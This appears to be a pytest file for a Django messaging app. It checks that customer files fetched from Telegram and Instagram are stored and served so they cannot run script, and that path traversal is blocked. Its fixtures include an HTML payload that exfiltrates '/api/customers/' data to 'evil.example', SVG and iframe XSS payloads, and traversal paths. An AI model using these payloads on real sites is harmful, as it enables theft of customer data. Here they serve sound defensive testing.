"""Platform media (issue 8, item 1): a customer's file fetched from Telegram or Instagram (the
local platform simulator) is stored so that opening its ``media_url`` in a browser can never run
script: HTML/SVG content becomes an inert download, and everything under ``/uploads/`` is
served with ``CSP: sandbox``, ``nosniff`` and ``attachment`` unless it is an image/audio/video."""
import copy
from pathlib import Path

import pytest
from django.conf import settings
from django.test import Client

from conversations.models import Message
from integrations.platform_sim.server import tiny_png
from tests.chat.media_checks import assert_cannot_run_script, browser_get, png_bomb
from tests.integrations.conftest import load_fixture, post_instagram, post_telegram

pytestmark = pytest.mark.django_db(transaction=True)

HTML = b"<!DOCTYPE html><html><body><h1>Invoice</h1><script>fetch('/api/customers/').then(r => r.text())" \
       b".then(t => new Image().src = 'https://evil.example/?' + encodeURIComponent(t))</script></body></html>"
SVG = b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">' \
      b'<script>alert(document.domain)</script></svg>'
HTML_UTF16 = "\ufeff<html><body onload=\"alert(1)\">hi</body></html>".encode("utf-16-le")
HTML_AFTER_TEXT = b"Dear customer,\r\nplease find your receipt below.\r\n<iframe src=\"javascript:alert(1)\"></iframe>"


def only_message() -> Message:
    assert Message.objects.count() == 1
    return Message.objects.get()


def stored_path(media_url: str) -> Path:
    return Path(settings.MEDIA_ROOT) / media_url.split("/uploads/", 1)[1]


def telegram_document(file_name: str, file_id: str, unique_id: str) -> dict:
    payload = copy.deepcopy(load_fixture("telegram", "document.json"))
    payload["message"]["document"].update(file_name=file_name, file_id=file_id, file_unique_id=unique_id,
                                          mime_type="application/octet-stream")
    return payload


def assert_inert_download(message: Message, data: bytes, stored_name: str):
    """What staff see: a file message, served as a download of exactly what the customer sent."""
    assert message.message_type == "file" and message.media_url.endswith(f"/{stored_name}")
    assert stored_path(message.media_url).read_bytes() == data
    response = browser_get(message.media_url)
    content_type, disposition = assert_cannot_run_script(response)
    assert content_type == "application/octet-stream"
    assert disposition == f'attachment; filename="{stored_name}"'
    assert response.body == data


# --- Telegram ---------------------------------------------------------------------------------------
@pytest.mark.parametrize("file_name, file_path, data, stored_name", [
    ("invoice.html", "documents/file_11.html", HTML, "AgADhtml001-invoice_html.txt"),
    ("logo.svg", "documents/file_12.svg", SVG, "AgADhtml001-logo_svg.txt"),
    ("page.htm", "documents/file_13.htm", HTML_UTF16, "AgADhtml001-page_htm.txt"),
    ("receipt.txt", "documents/file_14.txt", HTML_AFTER_TEXT, "AgADhtml001-receipt.txt"),
    ("cat.jpg", "documents/file_15.jpg", HTML, "AgADhtml001-cat_jpg.txt"),  # the name lies; the content decides
], ids=["html", "svg", "utf16-html", "text-then-iframe", "html-named-jpg"])
def test_telegram_document_with_markup_is_an_inert_download(telegram_channel, platform, file_name, file_path, data,
                                                             stored_name):
    platform.add_telegram_file("BQACAgQAAxkBAAIBhtml", data, file_path, "AgADhtml001")
    response = post_telegram(telegram_channel, telegram_document(file_name, "BQACAgQAAxkBAAIBhtml", "AgADhtml001"))
    assert response.status_code == 200 and response.json()["result"] == "stored"
    assert_inert_download(only_message(), data, stored_name)


def test_telegram_document_that_is_a_decompression_bomb_is_a_download(telegram_channel, platform):
    bomb = png_bomb()
    platform.add_telegram_file("BQACAgQAAxkBAAIBbomb", bomb, "documents/file_16.png", "AgADbomb001")
    assert post_telegram(telegram_channel, telegram_document("huge.png", "BQACAgQAAxkBAAIBbomb",
                                                             "AgADbomb001")).status_code == 200
    assert_inert_download(only_message(), bomb, "AgADbomb001-huge_png.bin")


def test_telegram_photo_is_served_inline_as_an_image(telegram_channel, platform):
    png = tiny_png((1, 2, 3), size=16)
    platform.add_telegram_file("AgACAgQAAxkBAAIBc2d0_large", png, "photos/file_42.jpg", "AQADdbcxG_large")
    assert post_telegram(telegram_channel, load_fixture("telegram", "photo.json")).status_code == 200
    message = only_message()
    assert message.message_type == "image"
    response = browser_get(message.media_url)
    content_type, disposition = assert_cannot_run_script(response)
    assert content_type == "image/jpeg" and not disposition.startswith("attachment")
    assert response.body == png


# --- Instagram -------------------------------------------------------------------------------------
@pytest.fixture
def sim(platform):
    platform.set_profile("6729184650193842", name="Leila Ahmadi", username="leila.ahmadi")
    return platform


@pytest.mark.parametrize("content_type, data, folded", [
    ("text/html", HTML, "html"),
    ("text/html; charset=utf-8", HTML_UTF16, "html"),
    ("image/svg+xml", SVG, "svg"),
    ("application/octet-stream", HTML, "bin"),  # no type to go by: the bytes say HTML
], ids=["html", "utf16-html", "svg", "untyped-html"])
def test_instagram_file_whose_server_answers_markup_is_an_inert_download(instagram_channel, sim, content_type, data,
                                                                          folded):
    sim.add_media("ig-file-1.pdf", data, content_type)
    payload = load_fixture("instagram", "file.json", SIM=sim.base_url)
    assert post_instagram(instagram_channel, payload).status_code == 200
    message = only_message()
    stored_name = message.media_url.rsplit("/", 1)[1]
    assert stored_name.endswith(f"_{folded}.txt")
    assert_inert_download(message, data, stored_name)


@pytest.mark.parametrize("content_type, data, stored_suffix, served_as", [
    ("application/zip", b"PK\x03\x04\x14\x00\x00\x00" + bytes(60), ".zip", "application/octet-stream"),
    ("text/plain", b"Order 2291: 2 x shirt, size M\n", ".txt", "application/octet-stream"),
    ("application/x-msdownload", b"MZ\x90\x00" + bytes(200), "_exe.bin", "application/octet-stream"),
    ("image/svg+xml", tiny_png((5, 5, 5)), ".png", "image/png"),  # the bytes are a PNG: shown as one
], ids=["zip", "text", "exe", "png-labelled-svg"])
def test_instagram_ordinary_files_keep_a_useful_name_and_are_served_safely(instagram_channel, sim, content_type, data,
                                                                           stored_suffix, served_as):
    sim.add_media("ig-file-1.pdf", data, content_type)
    assert post_instagram(instagram_channel, load_fixture("instagram", "file.json", SIM=sim.base_url)).status_code == 200
    message = only_message()
    assert message.message_type == "file" and message.media_url.endswith(stored_suffix)
    response = browser_get(message.media_url)
    content_type, disposition = assert_cannot_run_script(response)
    assert content_type == served_as and response.body == data


def test_instagram_image_attachment_answering_svg_is_never_served_as_svg(instagram_channel, sim):
    sim.add_media("ig-photo-1.jpg", SVG, "image/svg+xml")
    payload = load_fixture("instagram", "image.json", SIM=sim.base_url)
    assert post_instagram(instagram_channel, payload).status_code == 200
    message = only_message()
    assert message.media_url.endswith("_svg.txt")
    assert message.message_type == "file"  # an inert download, not a broken image in the inbox
    response = browser_get(message.media_url)
    content_type, disposition = assert_cannot_run_script(response)
    assert content_type == "application/octet-stream" and disposition.startswith("attachment")


def test_instagram_profile_picture_that_is_html_is_not_renderable(instagram_channel, platform):
    platform.set_profile("6729184650193842", name="Leila Ahmadi", username="leila.ahmadi", picture=HTML)
    platform.media["profile-6729184650193842.png"] = ("text/html", HTML)
    assert post_instagram(instagram_channel, load_fixture("instagram", "text.json")).status_code == 200
    picture = Message.objects.get().conversation.customer.profile_picture
    assert picture.endswith("_html.txt")
    assert_cannot_run_script(browser_get(picture))


# --- whatever is on disk, /uploads/ never serves it as a page ----------------------------------------------
@pytest.mark.parametrize("relative, data", [
    ("media/7/AgADold0001-invoice.html", HTML),  # stored before content checks existed
    ("media/7/AgADold0002-logo.svg", SVG),
    ("media/7/old.xhtml", HTML),
    ("media/7/script.js", b"alert(document.cookie)"),
    ("media/7/page.html.gz", b"\x1f\x8b\x08\x00" + bytes(16)),  # no Content-Encoding: gzip to unpack
    ("chat/1700000000.000_0a1b2c3d_notes.txt", HTML),
], ids=["html", "svg", "xhtml", "js", "html-gz", "chat-txt"])
def test_any_stored_file_is_served_so_that_it_cannot_run_script(db, relative, data):
    path = Path(settings.MEDIA_ROOT) / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    response = browser_get(f"/uploads/{relative}")
    content_type, disposition = assert_cannot_run_script(response)
    assert content_type == "application/octet-stream" and disposition.startswith("attachment")
    assert response.body == data


def test_only_regular_files_under_media_root_are_served(db):
    root = Path(settings.MEDIA_ROOT)
    (root / "media" / "7").mkdir(parents=True)
    (root / "media" / "7" / ".part-x1y2z3").write_bytes(HTML)  # a download still being written
    (root.parent / "secret.txt").write_bytes(b"outside")
    client = Client()
    for path in ("/uploads/media/7/.part-x1y2z3", "/uploads/media/7/", "/uploads/media/7", "/uploads/",
                 "/uploads/../secret.txt", "/uploads/media/../../secret.txt", "/uploads/%2e%2e/secret.txt",
                 "/uploads/media/7/missing.png", "/uploads/media/7/x%00.png"):
        assert client.get(path).status_code == 404, path
    (root / "media" / "7" / "a.png").write_bytes(tiny_png())
    assert client.post("/uploads/media/7/a.png").status_code == 405
    head = client.head("/uploads/media/7/a.png")
    assert head.status_code == 200 and head["Content-Security-Policy"] == "sandbox"
